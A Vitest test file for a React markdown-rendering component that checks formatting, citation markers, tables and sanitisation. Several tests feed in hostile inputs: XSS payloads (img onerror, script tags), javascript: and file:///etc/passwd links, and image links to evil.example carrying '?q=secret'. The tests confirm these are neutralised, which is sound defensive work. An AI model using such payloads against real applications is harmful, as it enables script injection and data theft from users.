import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { AnswerText } from "./answer-text";

describe("AnswerText", () => {
  it("renders bold, code, lists and code blocks", () => {
    expect(html("**Run** `npm ci`:\n\n- one\n- two\n\n```\na < b\n```")).toBe(
      "<p><strong>Run</strong> <code>npm ci</code>:</p><ul><li><p>one</p></li><li><p>two</p></li></ul>" +
        code("a &lt; b"),
    );
  });

  it("replaces a marker by its citation, also inside bold text", () => {
    expect(html("It **ships [1]** soon [2][9]")).toBe(
      "<p>It <strong>ships\u00a0<b>1</b></strong> soon\u00a0<b>2</b>[9]</p>",
    );
  });

  it("keeps a bracketed number inside code", () => {
    expect(html("`list[1]`")).toBe("<p><code>list[1]</code></p>");
  });

  it("shows raw HTML as text", () => {
    expect(html("a <img src=x onerror=alert(1)> b\n\n<script>alert(1)</script>")).toBe(
      "<p>a &lt;img src=x onerror=alert(1)&gt; b</p>&lt;script&gt;alert(1)&lt;/script&gt;",
    );
  });

  it("shows the host of a safe link, and removes the URL of an unsafe one", () => {
    expect(html("[bank](https://a.example/x) [b](javascript:alert%281%29) [c](file:///etc/passwd)")).toBe(
      '<p><a href="https://a.example/x" target="_blank" rel="noopener noreferrer" title="https://a.example/x">' +
        "bank</a> (a.example) b c</p>",
    );
  });

  it("shows an image as its description, and does not load it", () => {
    expect(html("![a chart](https://evil.example/?q=secret) ![b][r]\n\n[r]: https://evil.example/b")).toBe(
      "<p>a chart b</p>",
    );
  });

  it("renders tables with citations in their cells, also while they stream", () => {
    expect(html("| a | b |\n|---|--:|\n| x [1] | **y** |\n| z")).toBe(
      '<div tabindex="0"><table><thead><tr><th scope="col">a</th><th scope="col" style="text-align:right">b</th>' +
        '</tr></thead><tbody><tr><td>x\u00a0<b>1</b></td><td style="text-align:right"><strong>y</strong></td></tr>' +
        "<tr><td>z</td></tr></tbody></table></div>",
    );
  });

  it("marks exactly the unsupported ranges", () => {
    const text = "It ships. **It flies.** It sinks.";
    const unsupported = [[text.indexOf("It flies"), text.indexOf(" It sinks")] as const];
    const markup = renderToStaticMarkup(
      <AnswerText
        text={text}
        citationNumbers={new Set()}
        renderCitation={String}
        unsupported={unsupported}
      />,
    );
    expect(markup).toMatch(
      /<strong><span(?: class="[^"]*")? title="No source supports this">It flies\.<\/span><\/strong> It sinks\./,
    );
  });

  it("renders an unfinished code block", () => {
    expect(html("```ts\nconst a")).toBe(code("const a", "ts"));
  });
});

function code(text: string, language = ""): string {
  const button = '<button type="button" aria-label="Copy this code" title="Copy this code">';
  return `<div><div>${language}${button}</button></div><pre tabindex="0"><code>${text}</code></pre></div>`;
}

/** The markup inside the outer element, without icons, classes and the element that keeps a citation on its line. */
function html(text: string): string {
  const known = new Set([1, 2]);
  const markup = renderToStaticMarkup(
    <AnswerText text={text} citationNumbers={known} renderCitation={(n) => <b>{n}</b>} />,
  );
  return markup
    .replace(/^<div[^>]*>|<\/div>$|<span>|<span class[^>]*>|<\/span>|<svg.*?<\/svg>/g, "")
    .replace(/ class="[^"]*"/g, "");
}
